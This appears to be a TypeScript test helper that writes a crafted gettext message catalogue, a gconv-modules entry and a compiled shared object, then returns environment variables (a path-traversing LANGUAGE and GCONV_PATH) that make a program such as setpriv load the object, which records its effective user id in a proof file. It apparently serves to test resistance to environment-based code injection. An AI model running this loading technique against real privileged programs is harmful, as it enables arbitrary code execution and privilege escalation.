// A message catalogue and a character set conversion as an attacker would craft them: gettext and iconv of a program that is
// started with these variables load the shared object, which leaves its user's id as a file.
import { execFileSync } from 'node:child_process';
import { chmodSync, mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** What setpriv looks up on its way, before it changes the user. */
const MESSAGES = [
  'failed to parse regid',
  'failed to parse reuid',
  'failed to parse rgid',
  'failed to parse ruid',
];

export function writeEvilConversion(folder: string, domains: readonly string[]) {
  const proofs = join(folder, 'proofs');
  const catalogue = join(folder, 'locale', 'LC_MESSAGES');
  const conversions = join(folder, 'gconv');
  for (const path of [proofs, catalogue, conversions]) mkdirSync(path, { recursive: true });
  chmodSync(proofs, 0o777);
  for (const domain of domains) writeFileSync(join(catalogue, `${domain}.mo`), catalogueOf('EVIL', MESSAGES));
  const object = join(conversions, 'evil.so');
  writeFileSync(
    join(conversions, 'gconv-modules'),
    `module EVIL// INTERNAL ${object} 1\nmodule INTERNAL EVIL// ${object} 1\n`,
  );
  const source = `#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void run(void) {
  char name[200];
  snprintf(name, sizeof name, "${proofs}/%d", (int)geteuid());
  close(open(name, O_CREAT | O_WRONLY, 0666));
}
int gconv_init(void *step) { return 1; }
int gconv(void *step) { return 1; }
`;
  writeFileSync(join(folder, 'evil.c'), source);
  execFileSync('gcc', ['-shared', '-fPIC', '-o', object, join(folder, 'evil.c')]);
  const environment = {
    LANGUAGE: `../../..${join(folder, 'locale')}`,
    LC_ALL: 'C.UTF-8',
    GCONV_PATH: conversions,
  };
  return { proofs, object, environment };
}

/** A .mo file in this character set, with each message translated. */
function catalogueOf(charset: string, messages: readonly string[]): Buffer {
  const header = `Content-Type: text/plain; charset=${charset}\n`;
  const pairs = [['', header], ...[...messages].sort().map((text) => [text, `${text}!`])];
  const tables = 28;
  let at = tables + pairs.length * 16;
  const numbers: number[][] = [[], []];
  const texts: Buffer[] = [];
  for (const column of [0, 1]) {
    for (const pair of pairs) {
      const text = Buffer.from(`${pair[column]}\0`);
      numbers[column]?.push(text.length - 1, at);
      texts.push(text);
      at += text.length;
    }
  }
  const words = [0x950412de, 0, pairs.length, tables, tables + pairs.length * 8, 0, at, ...numbers.flat()];
  return Buffer.concat([Buffer.from(new Uint32Array(words).buffer), ...texts]);
}
